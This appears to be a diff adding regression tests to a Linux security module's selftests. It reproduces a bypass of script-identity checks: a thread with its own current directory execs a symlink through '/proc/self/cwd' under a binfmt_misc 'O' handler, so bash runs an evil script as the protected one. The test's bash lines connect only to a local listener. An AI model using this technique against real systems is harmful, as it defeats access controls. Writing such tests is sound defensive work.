@@ -29,6 +29,12 @@
  * input, connected under perl + protected.pl's rule.  At fault: app.c,
  * identify_script(), "if (!bprm->have_execfd && !names_file_plainly(...))"
  * -- have_execfd does not mean the interpreter is given no name.
+ * binfmt_misc_credentials_dash_name ("C", which implies "O") and
+ * binfmt_misc_open_binary_cwd_switch_bash (bash, no '-' name: a symbolic
+ * link to "/proc/self/cwd/protected.sh" exec'd by a non-leader thread
+ * with its own fs_struct) fail the same way.  The file_open hook does
+ * not catch the switch: identify_script() sets script_opened for
+ * have_execfd, so nothing checks what the interpreter opens.
  *
  * Controls: the same handler, the script by its plain name, runs itself
  * (its connection is heard as "perl": the handler is in use and the
@@ -39,6 +45,7 @@
  */
 #define _GNU_SOURCE
 #include <poll.h>
+#include <pthread.h>
 #include <sched.h>
 #include <signal.h>
 #include <sys/mount.h>
@@ -66,6 +73,12 @@
 static const char script_pl[] = "#!" PERL "\n" PERL_CONNECT("perl");
 static const char evil_pl[] = PERL_CONNECT("evil");
 
+#define BASH "/bin/bash"
+#define BASH_CONNECT(word)                                                 \
+	"exec 3<>/dev/tcp/127.0.0.1/" PORT_TEXT " && echo " word " >&3\n"
+static const char script_sh[] = "#!" BASH "\n" BASH_CONNECT("bash");
+static const char evil_sh[] = "#!" BASH "\n" BASH_CONNECT("evil");
+
 #define SETUP_FAILED 124
 
 static int write_text(const char *path, const char *text, mode_t mode)
@@ -86,7 +99,8 @@ static int prepare_files(void)
 {
 	if (system("rm -rf " DIR " " ATTACKER) || mkdir(DIR, 0755))
 		return -errno;
-	if (write_text(DIR "/protected.pl", script_pl, 0755) ||
+	if (write_text(DIR "/protected.sh", script_sh, 0755) ||
+	    write_text(DIR "/protected.pl", script_pl, 0755) ||
 	    write_text(DIR "/plain.pl", script_pl, 0755))
 		return -EIO;
 	return 0;
@@ -119,7 +133,51 @@ static void heard(int listener, char *out, size_t size)
 struct ident_case {
 	const char *name;
 	const char *flags; /* the handler's flags: "", "O", "C"; NULL: none */
+	const char *interp; /* the handler's interpreter; NULL: perl */
+	bool cwd_switch; /* execve() from a thread with its own current dir */
 };
+
+
+/*
+ * The thread trick: "/proc/self/cwd" is the thread group leader's
+ * current directory.  A second thread unshares its filesystem context
+ * (CLONE_FS), goes to a folder of its own holding an evil
+ * "protected.sh", and execs a symbolic link to
+ * "/proc/self/cwd/protected.sh" while the leader's current directory is
+ * the protected script's folder: the exec finds the protected script.
+ * After the exec the thread is the leader, and the same name leads to its
+ * own current directory's file: the evil one, which the interpreter opens.
+ * The exec'ing thread's fs_struct has one user (sees_init_root() passes).
+ */
+static int switch_go[2], switch_ready[2];
+
+static void *switch_thread(void *arg)
+{
+	char *const *argv = arg;
+	char *envp[] = { "PATH=/usr/bin:/bin", "HOME=/home/pfuser1", NULL };
+	char byte;
+
+	if (unshare(CLONE_FS) || chdir(ATTACKER "/evil") ||
+	    write(switch_ready[1], "r", 1) != 1 ||
+	    read(switch_go[0], &byte, 1) != 1)
+		_exit(SETUP_FAILED);
+	execve(argv[0], argv, envp);
+	_exit(errno == EPERM ? 200 : 127);
+}
+
+static void exec_switching_cwd(char **argv)
+{
+	pthread_t t;
+	char byte;
+
+	if (pipe(switch_go) || pipe(switch_ready) ||
+	    pthread_create(&t, NULL, switch_thread, argv) ||
+	    read(switch_ready[0], &byte, 1) != 1 || chdir(DIR) ||
+	    write(switch_go[1], "g", 1) != 1)
+		_exit(SETUP_FAILED);
+	pthread_join(t, NULL);
+	_exit(SETUP_FAILED);
+}
 
 static int write_str(const char *path, const char *text)
 {
@@ -132,20 +190,20 @@ static int write_str(const char *path, const char *text)
  * for files that start "#!/usr/bin/perl".  Tells @ready, then waits to
  * be killed (the instance lives as long as the mount).
  */
-static void handler_keeper(int ready, const char *flags)
+static void handler_keeper(int ready, const char *flags, const char *interp)
 {
-	static const char magic[] = "#!" PERL;
-	char rule[512], hex[4 * sizeof(magic) + 1];
+	char magic[64], rule[512], hex[4 * sizeof(magic) + 1];
 	size_t i;
 
+	snprintf(magic, sizeof(magic), "#!%s", interp);
 	for (i = 0; magic[i]; i++)
 		snprintf(hex + 4 * i, 5, "\\x%02x", (unsigned char)magic[i]);
 	if (unshare(CLONE_NEWNS) ||
 	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
 	    mount("binfmt_misc", BINFMT, "binfmt_misc", 0, NULL))
 		_exit(1);
-	snprintf(rule, sizeof(rule), ":pfsel-ident:M::%s::" PERL ":%s", hex,
-		 flags);
+	snprintf(rule, sizeof(rule), ":pfsel-ident:M::%s::%s:%s", hex,
+		 interp, flags);
 	if (write_str(BINFMT "/register", rule))
 		_exit(2);
 	if (write(ready, "r", 1) != 1)
@@ -180,6 +238,12 @@ static int exec_with_program_on_stdin(void *arg)
 	if (write(in[1], evil_pl, strlen(evil_pl)) != (ssize_t)strlen(evil_pl))
 		return SETUP_FAILED;
 	close(in[1]);
+	if (c->cwd_switch &&
+	    ((mkdir(ATTACKER "/evil", 0755) && errno != EEXIST) ||
+	     write_text(ATTACKER "/evil/protected.sh", evil_sh, 0755) ||
+	     (symlink("/proc/self/cwd/protected.sh", ATTACKER "/lnk") &&
+	      errno != EEXIST)))
+		return SETUP_FAILED;
 	if (c->flags) {
 		/* A user namespace only: the root stays init's. */
 		if (prctl(PR_SET_DUMPABLE, 1) || unshare(CLONE_NEWUSER) ||
@@ -190,7 +254,7 @@ static int exec_with_program_on_stdin(void *arg)
 		keeper = fork();
 		if (keeper == 0) {
 			close(ready[0]);
-			handler_keeper(ready[1], c->flags);
+			handler_keeper(ready[1], c->flags, c->interp ? c->interp : PERL);
 		}
 		close(ready[1]);
 		if (keeper < 0 || read(ready[0], &byte, 1) != 1) {
@@ -205,6 +269,8 @@ static int exec_with_program_on_stdin(void *arg)
 	if (pid == 0) {
 		dup2(in[0], STDIN_FILENO);
 		dup2(null, STDOUT_FILENO);
+		if (c->cwd_switch)
+			exec_switching_cwd(argv);
 		execve(argv[0], argv, envp);
 		_exit(errno == EPERM ? 200 : 127);
 	}
@@ -249,7 +315,7 @@ FIXTURE_TEARDOWN(script_ident)
 
 #define RUN(name_, flags_, said)                                       \
 	({                                                                 \
-		struct ident_case c_ = { name_, flags_ };                  \
+		struct ident_case c_ = { name_, flags_, NULL, false };                  \
 		int status_ = pfsel_run_as(PFSEL_UID1,                     \
 					   exec_with_program_on_stdin, &c_); \
 		heard(self->listener, said, sizeof(said));                 \
@@ -308,6 +374,40 @@ TEST_F_TIMEOUT(script_ident, binfmt_misc_credentials_dash_name, 120)
 	ASSERT_EQ(0, RUN(DIR "/protected.pl", "C", said));
 	EXPECT_STREQ("perl", said);
 	RUN("-Ia/../../pfsel-scriptenv/protected.pl", "C", said);
+	EXPECT_EQ(NULL, strstr(said, "evil"));
+}
+
+#define RUN_SH(name_, flags_, said)                                    \
+	({                                                                 \
+		struct ident_case c_ = { name_, flags_, BASH, true };      \
+		int status_ = pfsel_run_as(PFSEL_UID1,                     \
+					   exec_with_program_on_stdin, &c_); \
+		heard(self->listener, said, sizeof(said));                 \
+		TH_LOG("%s, thread with its own cwd (binfmt_misc flags %s):" \
+		       " status %d, heard \"%s\"", name_,                  \
+		       c_.flags ? c_.flags : "-, none", status_, said);    \
+		status_;                                                   \
+	})
+
+/*
+ * ATTACK SUCCEEDS at this commit (with "O"): bash, deterministically,
+ * without any '-' name: the thread trick above through a symbolic link,
+ * which names_file_plainly() would refuse but "O" skips.
+ * Controls: with no handler ("#!"), the link gets no script identity and
+ * the evil file's connection is refused; with the handler, the protected
+ * script by its plain name (same thread trick) runs itself ("bash").
+ */
+TEST_F_TIMEOUT(script_ident, binfmt_misc_open_binary_cwd_switch_bash, 120)
+{
+	char said[256];
+
+	if (access(BASH, X_OK))
+		SKIP(return, "no bash in this VM");
+	RUN_SH(ATTACKER "/lnk", NULL, said);
+	EXPECT_EQ(NULL, strstr(said, "evil"));
+	ASSERT_EQ(0, RUN_SH(DIR "/protected.sh", "O", said));
+	EXPECT_STREQ("bash", said);
+	RUN_SH(ATTACKER "/lnk", "O", said);
 	EXPECT_EQ(NULL, strstr(said, "evil"));
 }
 
